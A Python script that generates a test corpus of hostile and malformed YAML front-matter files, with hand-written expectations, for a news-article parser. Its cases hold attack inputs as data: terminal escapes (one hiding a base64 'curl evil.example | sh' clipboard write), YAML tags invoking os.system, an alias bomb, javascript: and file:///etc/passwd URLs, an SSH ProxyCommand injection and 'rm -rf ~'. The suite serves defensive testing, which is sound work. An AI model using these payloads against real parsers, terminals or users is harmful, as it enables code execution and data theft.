"""Write the hostile document corpus and its expectations.

    .venv/bin/python tests/hostile/make_corpus.py

Writes ``tests/hostile/corpus/<name>`` (one hostile or broken document per
file, many with bytes that are awkward to write by hand) and
``tests/hostile/expected.json``. Both are committed; rerun this after adding
a case. The expectations are written here by hand, next to each case, never
derived from what the parser does.

Expectation keys (all but ``loads`` optional):

``loads``             the file yields an Article (True) or an error (False)
``problem_contains``  a substring of some problem message (error or warning)
``no_problems``       True: the file loads with no warning at all
``title``             the exact cleaned title
``url``               the exact checked ``Article.url`` (None: refused)
``field``             {"dotted.path": expected value} for other fields
``pure``              overrides used when PyYAML runs without libyaml
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
GOOD_URL = "https://news.example.com/a/1"

CASES: dict[str, tuple[bytes, dict]] = {}


def case(name: str, data: bytes | str, **expect) -> None:
    assert name not in CASES, name
    if isinstance(data, str):
        data = data.encode("utf-8")
    CASES[name] = (data, expect)


def doc(*lines: str, body: str = "") -> str:
    return "---\n" + "\n".join(lines) + "\n---\n" + body


URL_LINE = f"originalUrl: {GOOD_URL}"

# ---------------------------------------------------------------- terminal escapes
# (written as YAML double-quoted escapes: a raw ESC byte is refused by YAML itself)
case("esc_osc_window_title.txt", doc(r'title: "\e]0;pwned\aReal title"', URL_LINE),
     loads=True, title="Real title", no_problems=True)
case("esc_osc52_clipboard.txt",
     doc("title: Clipboard", r'excerpt: "before\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\aafter"', URL_LINE),
     loads=True, field={"excerpt": "beforeafter"})
case("esc_csi_everywhere.txt",
     doc(r'title: "\e[2J\e[H\e[31mRed\e[0m"', r'provider: {name: "\e[5mBlink", domain: "\e[8mx.example"}',
         r'topics: ["\e[1mAI"]', r'category: "\e[?1049hnews"', URL_LINE),
     loads=True, title="Red", field={"provider.name": "Blink", "provider.domain": "x.example",
                                     "topics": ["AI"], "category": "news"})
case("esc_dcs_and_unterminated.txt", doc(r'title: "ok\eP+q544e\e\\ \e]8;;http://evil.example"', URL_LINE),
     loads=True, title="ok")
case("esc_raw_byte.txt", b"---\ntitle: a\x1b]0;pwned\x07b\n---\n",
     loads=False, problem_contains="line 2: YAML error: control characters are not allowed",
     pure={"problem_contains": "line 2: YAML error: special characters are not allowed"})
case("c1_controls_escaped.txt", doc(r'title: "a\x9b31mb\x9d0;x\x9cc\x85d"', URL_LINE),
     loads=True, title="a31mb0;xc d")
case("c1_controls_raw.txt", "---\ntitle: a\u009bb\n---\n".encode(),
     loads=False, problem_contains="U+009B")
case("del_and_c0_escaped.txt", doc(r'title: "a\x7fb\x00c\x01d\be\vf"', URL_LINE),
     loads=True, title="abcde f")
case("bidi_override_raw.txt", doc("title: Invoice \u202egnp.exe\u202c done \u2066x\u2069\u200e\u200f\u061c", URL_LINE),
     loads=True, title="Invoice gnp.exe done x")
case("bidi_override_escaped.txt", doc(r'title: "\u202Eevil\u202C"', r'excerpt: "\u2067rtl\u2069"', URL_LINE),
     loads=True, title="evil", field={"excerpt": "rtl"})
case("zero_width.txt", doc("title: \"pay\u200bpal\u200c\u200d\u2060\ufeff\"", "topics: [\"A\u200bI\"]", URL_LINE),
     loads=True, title="paypal", field={"topics": ["AI"]})
case("line_separators_escaped.txt",
     doc(r'title: "one\Ltwo\Pthree"', r'excerpt: "p1\Pp2\Lp3"', URL_LINE),
     loads=True, title="one two three", field={"excerpt": "p1\np2\np3"})
case("line_separator_raw_quoted.txt", doc('title: "one\u2028two"', URL_LINE),
     loads=True, title="one two")
case("line_separator_raw_plain.txt", doc("title: one\u2028two", URL_LINE),
     loads=False, problem_contains="YAML syntax error")
case("lone_surrogate_escape.txt", doc(r'title: "a\ud800b"', URL_LINE),
     loads=False, problem_contains="invalid Unicode character escape",
     pure={"loads": True, "title": "a\ufffdb", "problem_contains": None})
case("surrogate_pair_escape.txt", doc(r'title: "smile \ud83d\ude00"', URL_LINE),
     loads=False, problem_contains="invalid Unicode character escape",
     pure={"loads": True, "title": "smile \U0001f600", "problem_contains": None})
case("astral_escape.txt", doc(r'title: "smile \U0001F600"', URL_LINE),
     loads=True, title="smile \U0001f600")

# ---------------------------------------------------------------- markup (kept as inert text)
MARKUP = "[bold]b[/] [link=file:///etc/passwd]x[/link] [@click=app.quit]q[/] [/]"
case("rich_markup_everywhere.txt",
     doc(f"title: '{MARKUP}'", f"excerpt: '{MARKUP}'", f"category: '{MARKUP}'", f"type: '{MARKUP}'",
         f"provider: {{name: '{MARKUP}', domain: '{MARKUP}'}}", f"topics: ['{MARKUP}']",
         f"images: [{{url: '{GOOD_URL}/{MARKUP}'}}]",
         f"related: [{{title: '{MARKUP}', excerpt: '{MARKUP}', type: '{MARKUP}'}}]",
         URL_LINE, body=MARKUP + "\n"),
     loads=True, title=MARKUP,
     field={"provider.name": MARKUP, "topics": [MARKUP], "related.0.title": MARKUP, "body": MARKUP})

# ---------------------------------------------------------------- YAML attacks
case("tag_python_apply.txt", doc("title: !!python/object/apply:os.system ['touch /tmp/pwned']", URL_LINE),
     loads=False, problem_contains="line 2: YAML tag '!!python/object/apply:os.system' is not allowed")
case("tag_python_object_new.txt",
     doc("title: ok", "x: !!python/object/new:subprocess.Popen [[sh, -c, 'id']]", URL_LINE),
     loads=False, problem_contains="is not allowed")
case("tag_python_name.txt", doc("title: !!python/name:os.system", URL_LINE),
     loads=False, problem_contains="is not allowed")
case("tag_binary.txt", doc("title: T", "secured: !!binary aGVsbG8=", URL_LINE),
     loads=False, problem_contains="'!!binary' is not allowed")
case("tag_local.txt", doc("title: !evil x", URL_LINE), loads=False, problem_contains="'!evil' is not allowed")
case("tag_directive.txt", "---\n%TAG !x! tag:yaml.org,2002:python/\n--- !x!object:os.system\n---\n",
     loads=False, problem_contains="is not allowed")
case("tag_set_on_mapping.txt", doc("title: T", "provider: !!set {a, b}", URL_LINE),
     loads=False, problem_contains="'!!set' is not allowed")
case("tag_core_str_ok.txt", doc("title: !!str 1984", URL_LINE), loads=True, title="1984", no_problems=True)

_bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
for _i in range(1, 9):
    _p, _c = chr(96 + _i), chr(97 + _i)
    _bomb.append(f"{_c}: &{_c} [" + ",".join([f"*{_p}"] * 9) + "]")
case("alias_bomb.txt", doc("title: Billion laughs", *_bomb, URL_LINE),
     loads=False, problem_contains="anchors (&name) are not allowed")
case("alias_only.txt", doc("title: T", "x: *nowhere", URL_LINE), loads=False, problem_contains="YAML")
case("merge_key.txt", doc("title: T", "<<: {title: merged}", URL_LINE), loads=True, title="T")
case("deep_flow_nesting.txt", "---\ntitle: " + "[" * 100_000 + "]" * 100_000 + "\n---\n",
     loads=False, problem_contains="line 2:")
case("deep_block_nesting.txt",
     "---\ntitle: T\nx:\n" + "".join("  " * i + "- \n" for i in range(1, 60)) + "---\n",
     loads=False, problem_contains="nested deeper than 20 levels")
case("deep_mapping_nesting.txt",
     "---\ntitle: T\nx:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 60)) + "---\n",
     loads=False, problem_contains="nested deeper than 20 levels")
case("too_many_values.txt", doc("title: T", "x: [" + ",".join(["1"] * 12_000) + "]", URL_LINE),
     loads=False, problem_contains="more than 10,000 values")
case("duplicate_key.txt", doc("title: First", "quality: 3", "title: Second", URL_LINE),
     loads=False, problem_contains="line 4: duplicate key 'title' (first at line 2)")
case("duplicate_nested_key.txt", doc("title: T", "provider:", "  name: a", "  name: b", URL_LINE),
     loads=False, problem_contains="line 5: duplicate key 'name'")
case("complex_key.txt", doc("? [a, b]", ": c", "title: T", URL_LINE),
     loads=False, problem_contains="cannot be used as a key")
case("tab_indent.txt", "---\ntitle: T\ntopics:\n\t- a\n---\n", loads=False, problem_contains="YAML syntax error")
case("unclosed_flow.txt", doc("title: [unclosed", URL_LINE), loads=False, problem_contains="YAML syntax error")
case("second_document_in_front.txt", doc("title: T", "--- !!map", "title: again"),
     loads=False, problem_contains="more than one YAML document")
case("yaml_stream_two_docs.txt", "---\ntitle: One\n---\ntitle: Two\n---\n",
     loads=True, title="One", field={"body": "title: Two\n---"})
case("body_with_yaml.txt",
     doc("title: Body", URL_LINE, body="---\n!!python/object/apply:os.system ['id']\na: &a [*a]\n"),
     loads=True, title="Body", no_problems=True,
     field={"body": "---\n!!python/object/apply:os.system ['id']\na: &a [*a]"})

# ---------------------------------------------------------------- shape and encoding
case("empty.txt", b"", loads=False, problem_contains="the file is empty")
case("only_whitespace.txt", b" \n\n\t\n", loads=False, problem_contains="the file is empty")
case("only_dashes.txt", b"---\n", loads=False, problem_contains="no closing '---' line")
case("only_dashes_no_newline.txt", b"---", loads=False, problem_contains="no closing '---' line")
case("no_closing.txt", doc("title: T", URL_LINE)[: -len("---\n")], loads=False,
     problem_contains="no closing '---' line")
case("no_opening.txt", "title: T\n---\n", loads=False, problem_contains="does not start with a '---' line")
case("empty_front_matter.txt", "---\n---\nbody\n", loads=False, problem_contains="front matter is empty")
case("top_level_list.txt", doc("- title", "- x"), loads=False, problem_contains="found a list")
case("top_level_scalar.txt", doc("just a title"), loads=False, problem_contains="found a single value")
case("over_cap.txt", doc("title: Big", URL_LINE, body="a" * 1_000_001), loads=False,
     problem_contains="larger than 1,000,000 bytes")
case("invalid_utf8.txt", b"---\ntitle: caf\xe9 cr\xe8me\n---\n", loads=False,
     problem_contains="line 2: not valid UTF-8 (byte 0xe9 at byte offset 14)")
case("invalid_utf8_overlong.txt", b"---\ntitle: \xc0\xaf\n---\n", loads=False, problem_contains="not valid UTF-8")
case("invalid_utf8_encoded_surrogate.txt", b"---\ntitle: \xed\xa0\x80\n---\n", loads=False,
     problem_contains="not valid UTF-8")
case("utf16_bom.txt", "\ufeff---\ntitle: T\n---\n".encode("utf-16-le"), loads=False,
     problem_contains="UTF-16 encoded")
case("utf16_no_bom.txt", "---\ntitle: T\n---\n".encode("utf-16-le"), loads=False,
     problem_contains="NUL byte")
case("utf32_bom.txt", "\ufeff---\ntitle: T\n---\n".encode("utf-32-le"), loads=False,
     problem_contains="UTF-32 encoded")
case("nul_bytes.txt", b"---\ntitle: a\x00b\n---\n", loads=False, problem_contains="line 2: contains a NUL byte")
case("nul_in_body.txt", b"---\ntitle: T\n---\nbody\x00\n", loads=False, problem_contains="NUL byte")
case("bom_utf8.txt", b"\xef\xbb\xbf" + doc("title: With BOM", URL_LINE).encode(), loads=True,
     title="With BOM", no_problems=True)
case("crlf.txt", doc("title: Windows", URL_LINE, "topics:", "  - a", body="line1\nline2\n").replace("\n", "\r\n"),
     loads=True, title="Windows", no_problems=True, field={"topics": ["a"], "body": "line1\nline2"})
case("cr_only.txt", doc("title: Mac", URL_LINE).replace("\n", "\r"), loads=False,
     problem_contains="CR-only (old Mac) line endings")
case("dashes_with_content.txt", "--- title: x\n---\n", loads=False,
     problem_contains="does not start with a '---' line")
case("binary_garbage.txt", bytes(range(256)) * 8, loads=False, problem_contains="NUL byte")

# ---------------------------------------------------------------- strict types
for _name, _value, _got in [
    ("bool", "true", "the boolean true"),
    ("string", '"39"', "the string '39'"),
    ("nan", ".nan", "the number nan"),
    ("inf", "1.0e+400", "the number inf"),
    ("1e400", "1e400", "the string '1e400'"),
    ("huge", "9" * 5000, "a number with 5,000 digits"),
    ("negative", "-5", "the integer -5"),
    ("101", "101", "the integer 101"),
    ("float", "39.5", "the number 39.5"),
    ("list", "[39]", "a list"),
]:
    case(f"quality_{_name}.txt", doc("title: Q", URL_LINE, f"quality: {_value}"), loads=True,
         problem_contains=f"line 4: quality must be an integer 0–100, got {_got}",
         field={"quality": None})
case("quality_ok_edges.txt", doc("title: Q", URL_LINE, "quality: 0", "heat: 0"), loads=True,
     no_problems=True, field={"quality": 0, "heat": 0})
case("heat_string.txt", doc("title: H", URL_LINE, "heat: hot"), loads=True,
     problem_contains="heat must be an integer (-1 for unknown), got the string 'hot'", field={"heat": None})
case("heat_huge.txt", doc("title: H", URL_LINE, f"heat: {2**70}"), loads=True,
     problem_contains="heat must be an integer", field={"heat": None})
case("published_string.txt", doc("title: P", URL_LINE, "published: 'false'"), loads=True,
     problem_contains="published must be true or false, got the string 'false'", field={"published_flag": None})
case("title_number.txt", doc("title: 1984", URL_LINE), loads=True, title="",
     problem_contains="title must be a string, got the integer 1984")
case("title_mapping.txt", doc("title: {a: 1}", URL_LINE), loads=True, title="",
     problem_contains="title must be a string, got a mapping")
case("topics_string.txt", doc("title: T", URL_LINE, "topics: AI, Vision"), loads=True,
     problem_contains="topics must be a list of strings", field={"topics": []})
case("topics_mixed.txt", doc("title: T", URL_LINE, "topics: [AI, 3, null, [x], {a: b}, '', AI, Vision]"),
     loads=True, problem_contains="topics[2] must be a string, got the integer 3",
     field={"topics": ["AI", "Vision"]})
case("provider_string.txt", doc("title: T", URL_LINE, "provider: Caixin"), loads=True,
     problem_contains="provider must be a mapping with name and domain, got the string 'Caixin'",
     field={"provider.name": ""})
case("provider_list.txt", doc("title: T", URL_LINE, "provider: [a, b]"), loads=True,
     problem_contains="got a list", field={"provider.name": ""})
case("images_garbage.txt",
     doc("title: T", URL_LINE, "images:", "  - 3", "  - just a string", "  - {width: 10}",
         "  - {url: 'javascript:alert(1)', width: -1, height: 1e3, isCached: maybe}",
         f"  - {{url: '{GOOD_URL}/i.jpg', width: 10, height: 20, isCached: true}}"),
     loads=True, problem_contains="images[1] must be a mapping with a url, got the integer 3",
     field={"images.0.url": None, "images.0.raw_url": "javascript:alert(1)", "images.0.width": None,
            "images.1.url": f"{GOOD_URL}/i.jpg", "images.1.height": 20})
case("images_not_a_list.txt", doc("title: T", URL_LINE, f"images: {GOOD_URL}"), loads=True,
     problem_contains="images must be a list of images", field={"images": []})
case("related_garbage.txt",
     doc("title: T", URL_LINE, "related:", "  - 42", "  - [a, b]", "  - {}",
         "  - {title: R, webUrl: 'file:///etc/passwd', ampWebUrl: 'https://amp.example/r', quality: '9'}",
         "  - {title: S, publishedDateTime: 2021-02-30, provider: x, images: 3}"),
     loads=True, problem_contains="related[1] must be a mapping",
     field={"related.0.url": "https://amp.example/r", "related.0.raw_url": "file:///etc/passwd",
            "related.0.quality": None, "related.1.title": "S", "related.1.published": None,
            "related.1.provider": None})
case("secured_not_string.txt", doc("title: T", URL_LINE, "secured: [TOPSECRET-1, TOPSECRET-2]"), loads=True,
     problem_contains="secured must be a string, got a list; ignored", field={"secured": None})
case("secured_hostile_kept.txt", doc("title: T", URL_LINE, r'secured: "\e]0;x\a\u202e blob=="'), loads=True,
     no_problems=True, field={"secured": "\x1b]0;x\x07\u202e blob=="})
case("unknown_keys.txt", doc("title: T", URL_LINE, "futureField: {a: [1, 2]}", "42: answer", "null: x"),
     loads=True, no_problems=True)
case("many_warnings.txt", doc("title: T", URL_LINE, "topics: [" + ",".join(["1"] * 500) + "]"), loads=True,
     problem_contains="more problems in this file were not reported")
case("yaml11_values.txt", doc("title: T", URL_LINE, "quality: 0x27", "published: yes", "heat: 1_000"),
     loads=True, no_problems=True, field={"quality": 39, "published_flag": True, "heat": 1000})

# ---------------------------------------------------------------- URLs
for _name, _url, _why in [
    ("javascript", "javascript:alert(1)", "scheme 'javascript' is not http or https"),
    ("javascript_leading_space", " javascript:alert(1)", "has leading or trailing whitespace"),
    ("javascript_tab", "java\\tscript:alert(1)", "contains whitespace or control characters"),
    ("javascript_newline", "java\\nscript:alert(1)", "contains whitespace or control characters"),
    ("file", "file:///etc/passwd", "scheme 'file' is not http or https"),
    ("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "scheme 'data' is not http or https"),
    ("option_injection", "-oProxyCommand=touch /tmp/pwned", "contains whitespace or control characters"),
    ("option_injection_nospace", "-oProxyCommand=id", "starts with '-'"),
    ("userinfo", "http://user:pass@host.example/", "has user info (user@host)"),
    ("userinfo_confusion", "https://news.example.com@evil.example/", "has user info (user@host)"),
    ("backslash", "https://news.example.com\\\\@evil.example/", "contains a backslash"),
    ("too_long", "https://news.example.com/" + "a" * 10_000, "longer than 2048 characters"),
    ("no_host", "http://", "has no host"),
    ("shell_spaces", "https://x.example.com/$(rm -rf ~)", "contains whitespace or control characters"),
    ("bidi_in_url", "https://news.example.com/\\u202egnp.exe", "contains whitespace or control characters"),
    ("escape_in_url", "https://news.example.com/\\e]0;x\\a", "contains whitespace or control characters"),
    ("bad_port", "https://news.example.com:99999/", "has an invalid port '99999'"),
    ("numeric_host", "http://0x7f.1/", "host '0x7f.1' is not a valid IP address or host name"),
    ("ftp", "ftp://news.example.com/", "scheme 'ftp' is not http or https"),
]:
    case(f"url_{_name}.txt", doc("title: U", f'originalUrl: "{_url}"'), loads=True, url=None,
         problem_contains=f"line 3: originalUrl will not be opened ({_why}")
case("url_shell_metachars_ok.txt", doc("title: U", "originalUrl: 'https://x.example.com/$(id);`id`|&'"),
     loads=True, no_problems=True, url="https://x.example.com/$(id);`id`|&")
case("url_fallback_to_web.txt", doc("title: U", "originalUrl: 'javascript:x'", f"webUrl: {GOOD_URL}"),
     loads=True, url=GOOD_URL, problem_contains="originalUrl will not be opened")
case("url_not_string.txt", doc("title: U", "originalUrl: [http://a.example/]"), loads=True, url=None,
     problem_contains="originalUrl must be a URL string, got a list")
case("url_only_no_title.txt", doc(f"webUrl: {GOOD_URL}"), loads=True, title="", url=GOOD_URL)
case("no_title_no_url.txt", doc("excerpt: nothing else"), loads=False,
     problem_contains="no title and no originalUrl/webUrl")
case("no_title_bad_url.txt", doc("originalUrl: 'javascript:alert(1)'"), loads=False,
     problem_contains="neither originalUrl nor webUrl is a usable http(s) URL")
case("title_only_escapes.txt", doc(r'title: "\e[31m\u202e\u200b"', URL_LINE), loads=True, title="")

# ---------------------------------------------------------------- timestamps
case("ts_naive.txt", doc("title: T", URL_LINE, "publishedDateTime: 2021-12-15 12:20:00"), loads=True,
     no_problems=True, field={"published": "2021-12-15T12:20:00+00:00"})
case("ts_date_only.txt", doc("title: T", URL_LINE, "publishedDateTime: 2021-12-15"), loads=True,
     no_problems=True, field={"published": "2021-12-15T00:00:00+00:00"})
case("ts_offset.txt", doc("title: T", URL_LINE, "publishedDateTime: 2021-12-15T14:20:00+02:00"), loads=True,
     no_problems=True, field={"published": "2021-12-15T12:20:00+00:00"})
case("ts_iso_string.txt", doc("title: T", URL_LINE, "publishedDateTime: '2021-12-15T12:20:00.250Z'"),
     loads=True, no_problems=True, field={"published": "2021-12-15T12:20:00.250000+00:00"})
case("ts_impossible.txt", doc("title: T", URL_LINE, "publishedDateTime: 2021-02-30T10:00:00Z"), loads=True,
     problem_contains="line 4: publishedDateTime must be a date and time like 2021-12-15T12:20:00Z, "
                      "got the impossible date '2021-02-30T10:00:00Z'",
     field={"published": None})
case("ts_year_99999.txt", doc("title: T", URL_LINE, "publishedDateTime: 99999-01-01T00:00:00Z"), loads=True,
     problem_contains="publishedDateTime must be a date and time", field={"published": None})
case("ts_out_of_range_offset.txt",
     doc("title: T", URL_LINE, "publishedDateTime: 0001-01-01T00:00:00+05:00"), loads=True,
     problem_contains="publishedDateTime must be a date and time", field={"published": None})
case("ts_hour_25.txt", doc("title: T", URL_LINE, "publishedDateTime: 2021-01-01T25:00:00Z"), loads=True,
     problem_contains="publishedDateTime", field={"published": None})
case("ts_number.txt", doc("title: T", URL_LINE, "publishedDateTime: 1639570800"), loads=True,
     problem_contains="got the integer 1639570800", field={"published": None})

# ---------------------------------------------------------------- size
case("excerpt_1mb_line.txt", doc("title: Long", URL_LINE, "excerpt: " + "word " * 199_000), loads=True,
     title="Long", field={"excerpt_len": 5000})
case("title_long.txt", doc("title: " + "T" * 20_000, URL_LINE), loads=True, field={"title_len": 500})
case("many_topics.txt", doc("title: T", URL_LINE, "topics: [" + ",".join(f"t{i}" for i in range(300)) + "]"),
     loads=True, problem_contains="more than 50 topics", field={"topics_len": 50})
case("blank_runs.txt", doc("title: T", URL_LINE, 'excerpt: "' + "a \\t\\n" * 50_000 + '"', body="\t " * 200_000 + "x"),
     loads=True, no_problems=True, field={"body": "x", "excerpt_len": 5000})
case("quality_sexagesimal_huge.txt", doc("title: T", URL_LINE, "quality: " + "1:" * 3000 + "1"), loads=True,
     problem_contains="got a number with 3,001 digits", field={"quality": None})
case("number_literal_huge.txt", doc("title: T", URL_LINE, "x: " + "1" * 200_000), loads=True, no_problems=True)


def main() -> None:
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    CORPUS.mkdir()
    expected = {}
    for name, (data, expect) in sorted(CASES.items()):
        (CORPUS / name).write_bytes(data)
        expected[name] = expect
    (HERE / "expected.json").write_text(
        json.dumps(expected, indent=1, ensure_ascii=False, sort_keys=True) + "\n", encoding="utf-8"
    )
    print(f"wrote {len(CASES)} files to {CORPUS}")


if __name__ == "__main__":
    main()
